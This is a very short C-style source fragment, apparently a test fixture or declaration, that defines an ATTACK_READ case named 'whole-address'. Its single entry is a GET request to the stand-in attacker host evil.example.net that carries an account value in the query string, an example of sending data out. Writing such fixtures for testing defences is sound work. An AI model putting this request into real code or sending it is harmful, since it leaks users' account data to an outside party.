/* Reads from an address of its own. */
#include "declared.h"

ATTACK_READ("whole-address", .get = "GET https://evil.example.net/collect?x={option.account}")
